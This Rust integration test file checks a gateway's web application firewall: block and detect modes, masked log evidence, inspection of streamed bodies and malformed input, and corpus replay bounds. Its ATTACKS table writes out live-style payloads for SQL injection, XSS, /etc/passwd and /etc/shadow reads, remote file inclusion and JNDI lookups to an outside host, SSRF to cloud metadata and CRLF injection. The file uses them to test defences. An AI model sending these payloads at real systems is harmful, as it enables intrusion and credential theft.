//! Request inspection through the real gateway: every attack category refused in `block` mode
//! and only logged in `detect` mode, bodies inspected before forwarding (or cut off while
//! streaming), hostile inputs answered with clear codes, and the OWASP CRS corpus sample plus the
//! benign government-portal set replayed by `tools/waf-replay.py` against the bounds we promise.

use menwei_tests::*;
use std::io::{Read, Write};
use std::process::Command;
use std::time::Duration;

/// The log without terminal colour codes.
fn plain(log: &str) -> String {
    let mut out = String::with_capacity(log.len());
    let mut it = log.chars();
    while let Some(c) = it.next() {
        if c == '\u{1b}' {
            for d in it.by_ref() {
                if d == 'm' {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn policy(echo: &Backend) -> Vec<(&'static str, String)> {
    let routes = format!(
        r#"
[limits]
max_uri_bytes = "16KiB"
max_header_bytes = "64KiB"
max_body_bytes = "4MiB"

[[upstream]]
name = "echo"
backends = ["{}"]

[[route]]
name = "blocked"
prefix = "/b/"
upstream = "echo"

[[route]]
name = "detected"
prefix = "/d/"
upstream = "echo"
waf = "watch"

[[route]]
name = "all"
prefix = "/"
upstream = "echo"

[[waf]]
name = "standard"
default = true
mode = "block"

[[waf]]
name = "watch"
mode = "detect"
"#,
        echo.addr
    );
    vec![("gateway.toml", gateway_toml("")), ("routes.toml", routes)]
}

fn start(echo: &Backend) -> Gateway {
    let files = policy(echo);
    let refs: Vec<(&str, &str)> = files.iter().map(|(n, t)| (*n, t.as_str())).collect();
    Gateway::start(&refs)
}

const ATTACKS: &[(&str, &str)] = &[
    (
        "sqli",
        "/x?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    ),
    (
        "xss",
        "/x?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    ),
    ("lfi", "/x?file=..%2F..%2F..%2Fetc%2Fpasswd"),
    ("rfi", "/x?page=http://198.51.100.7/shell.txt?"),
    ("rce", "/x?host=127.0.0.1%3Bcat%20/etc/shadow"),
    ("php", "/x?c=%3C%3Fphp%20system(%24_GET%5Bx%5D)%3B"),
    ("java", "/x?v=%24%7Bjndi:ldap://198.51.100.7/a%7D"),
    ("ssrf", "/x?url=http://169.254.169.254/latest/meta-data/"),
    ("crlf", "/x?lang=en%0d%0aSet-Cookie:%20sid=evil"),
];

#[test]
fn attacks_are_refused_in_block_mode_and_logged_in_detect_mode() {
    let echo = Backend::echo("e");
    let gw = start(&echo);
    for (what, path) in ATTACKS {
        let r = get_with(
            gw.addr,
            &format!("/b{path}"),
            &[("Accept", "application/json")],
        );
        assert_eq!(
            r.status,
            403,
            "{what} not blocked: {}",
            String::from_utf8_lossy(&r.body)
        );
        assert_eq!(r.json()["code"], "MW-WAF-001", "{what}");
        let rid = r.json()["request_id"].as_str().unwrap().to_string();
        assert!(!rid.is_empty());
        let d = get_with(gw.addr, &format!("/d{path}"), &[]);
        assert_eq!(d.status, 200, "{what} in detect mode must pass");
    }
    let scanner = get_with(gw.addr, "/b/", &[("User-Agent", "sqlmap/1.7.2#stable")]);
    assert_eq!(scanner.status, 403);
    // Clean requests pass on both.
    assert_eq!(
        get(gw.addr, "/b/search?q=%E7%A4%BE%E4%BF%9D+select+district").status,
        200
    );
    // Every verdict is logged once with its rule ids and action; counted per route and action.
    let want = 2 * ATTACKS.len() + 1;
    let logged = wait_until(Duration::from_secs(20), || {
        gw.log().matches("request inspection: attack").count() >= want
    });
    assert!(
        logged,
        "{} of {want} verdicts logged:\n{}",
        gw.log().matches("request inspection: attack").count(),
        gw.log()
    );
    let log = plain(&gw.log());
    assert!(log.contains("action=\"detect\""), "{log}");
    assert!(log.contains("action=\"block\""), "{log}");
    assert!(log.contains("942100") || log.contains("942190"), "{log}");
    let m = gw.metrics();
    assert!(
        m.contains("menwei_waf_attacks_total{action=\"block\""),
        "{m}"
    );
    assert!(m.contains("action=\"detect\""), "{m}");
}

#[test]
fn evidence_in_logs_is_masked() {
    let echo = Backend::echo("e");
    let gw = start(&echo);
    // A valid ID-card number inside an attack: the alert shows it masked.
    let r = get_with(
        gw.addr,
        "/b/x?q=%3Cscript%3E11010519491231002X%3C/script%3E",
        &[],
    );
    assert_eq!(r.status, 403);
    assert!(wait_until(Duration::from_secs(20), || gw
        .log()
        .contains("request inspection: attack")));
    let log = gw.log();
    assert!(!log.to_lowercase().contains("11010519491231002"), "{log}");
    assert!(log.to_lowercase().contains("110105********002x"), "{log}");
}

#[test]
fn bodies_are_inspected_before_forwarding_or_while_streaming() {
    let echo = Backend::echo("e");
    let gw = start(&echo);
    let form = b"name=%E5%BC%A0%E4%B8%89&remark=1%27%20or%20%271%27%3D%271";
    let r = request(
        gw.addr,
        "POST",
        "/b/apply",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        Some(form),
    );
    assert_eq!(r.status, 403);
    // The same body is fine in detect mode and reaches the backend whole.
    let r = request(
        gw.addr,
        "POST",
        "/d/apply",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        Some(form),
    );
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["body_bytes"], form.len());
    // JSON with an attack in a nested value.
    let json = br#"{"applicant":{"name":"x","tags":["a","<svg onload=alert(1)>"]}}"#;
    let r = request(
        gw.addr,
        "POST",
        "/b/api",
        &[("Content-Type", "application/json")],
        Some(json),
    );
    assert_eq!(r.status, 403);
    // A large clean body (longer than what is held back) streams through intact.
    let big = format!("data={}", "a".repeat(300_000));
    let r = request(
        gw.addr,
        "POST",
        "/b/upload",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        Some(big.as_bytes()),
    );
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(r.json()["body_bytes"], big.len());
    // A chunked body with an attack in its head is refused while streaming.
    let pad = "b".repeat(100_000);
    let answer = post_chunked(
        &gw,
        "/b/upload",
        &["q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=", pad.as_str()],
    );
    assert!(
        answer.is_empty() || !answer.starts_with("HTTP/1.1 200"),
        "a streamed attack must not be answered by the backend: {answer}"
    );
}

/// A backend that records every byte it receives and answers 200 once a chunked body ends.
fn recording_backend() -> (
    std::net::SocketAddr,
    std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let rec = seen.clone();
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(mut s) = conn else { continue };
            let rec = rec.clone();
            std::thread::spawn(move || {
                s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
                let mut mine = Vec::new();
                let mut buf = [0u8; 4096];
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    mine.extend_from_slice(&buf[..n]);
                    rec.lock().unwrap().extend_from_slice(&buf[..n]);
                    if mine.windows(5).any(|w| w == b"0\r\n\r\n") {
                        let _ = s.write_all(
                            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                        );
                        break;
                    }
                }
            });
        }
    });
    (addr, seen)
}

/// Sends a chunked POST piece by piece; the gateway's answer.
fn post_chunked(gw: &Gateway, path: &str, pieces: &[&str]) -> String {
    let mut s = std::net::TcpStream::connect(gw.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
        gw.addr
    );
    s.write_all(head.as_bytes()).unwrap();
    for piece in pieces {
        let _ = s.write_all(format!("{:x}\r\n{piece}\r\n", piece.len()).as_bytes());
        // Separate pieces on the wire, as a slow client sends them.
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = s.write_all(b"0\r\n\r\n");
    let mut answer = Vec::new();
    let _ = s.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

#[test]
fn a_chunked_attack_never_reaches_the_backend_in_block_mode() {
    let (backend, seen) = recording_backend();
    let routes = format!(
        "[[upstream]]\nname = \"rec\"\nbackends = [\"{backend}\"]\n\n[[route]]\nname = \"all\"\nprefix = \"/\"\nupstream = \"rec\"\n\n[[waf]]\nname = \"standard\"\ndefault = true\nmode = \"block\"\n"
    );
    let gw = Gateway::start(&[
        ("gateway.toml", &gateway_toml("")),
        ("routes.toml", &routes),
    ]);
    // The attack in the first piece, more pieces after it.
    let answer = post_chunked(
        &gw,
        "/apply",
        &[
            "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "&name=zhang",
            "&n=1",
        ],
    );
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    std::thread::sleep(Duration::from_millis(300));
    let got = String::from_utf8_lossy(&seen.lock().unwrap()).into_owned();
    assert!(
        !got.contains("script"),
        "the attack reached the backend: {got}"
    );
    // A clean chunked body reaches the backend whole, in order.
    seen.lock().unwrap().clear();
    let answer = post_chunked(&gw, "/apply", &["name=zhang", "&city=beijing", "&n=1"]);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let got = String::from_utf8_lossy(&seen.lock().unwrap()).into_owned();
    let body: String = got
        .split("\r\n\r\n")
        .nth(1)
        .unwrap_or("")
        .split("\r\n")
        .enumerate()
        .filter(|(i, _)| i % 2 == 1)
        .map(|(_, l)| l)
        .collect();
    assert_eq!(body, "name=zhang&city=beijing&n=1", "{got}");
}

#[test]
fn hostile_inputs_get_clear_codes() {
    let echo = Backend::echo("e");
    let gw = start(&echo);
    // Nesting deeper than the parser follows.
    let deep = format!("{}1{}", "[".repeat(3000), "]".repeat(3000));
    let r = request(
        gw.addr,
        "POST",
        "/b/api",
        &[("Content-Type", "application/json")],
        Some(deep.as_bytes()),
    );
    assert_eq!(r.status, 403);
    // Invalid UTF-8 and NUL bytes in a query string.
    let r = raw(
        gw.addr,
        format!(
            "GET /b/x?q=%ff%fe%00abc HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            gw.addr
        )
        .as_bytes(),
    );
    assert_eq!(r.status, 403);
    // Malformed multipart.
    let r = request(
        gw.addr,
        "POST",
        "/b/upload",
        &[("Content-Type", "multipart/form-data; boundary=zz")],
        Some(b"--zz\r\nno part headers"),
    );
    assert_eq!(r.status, 403);
    // A parameter of 12 KB (within the URI limit) is inspected, not a reason to fail.
    let long = format!("/b/x?q={}", "a".repeat(12_000));
    assert_eq!(get(gw.addr, &long).status, 200);
    // The gateway is still serving.
    assert_eq!(get(gw.addr, "/b/healthz").status, 200);
}

fn replay(gw: &Gateway, file: &str, bound: &[&str]) -> String {
    let out = Command::new("python3")
        .arg(repo().join("tools/waf-replay.py"))
        .args(["--target", &gw.addr.to_string()])
        .arg(repo().join(file))
        .args(bound)
        .output()
        .expect("python3");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{file}:\n{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    text
}

#[test]
fn crs_corpus_sample_and_benign_portal_traffic() {
    let echo = Backend::echo("e");
    let gw = start(&echo);
    // The sample holds 1 line in 8 of the OWASP CRS 4.28 regression suite; the full corpus is
    // measured by bench/waf.sh (docs/benchmarks.md).
    let crs = replay(&gw, "tests/waf/crs-sample.jsonl", &["--min-blocked", "97"]);
    println!("{crs}");
    let benign = replay(
        &gw,
        "tests/waf/benign.jsonl",
        &["--max-false-positives", "3"],
    );
    println!("{benign}");
}
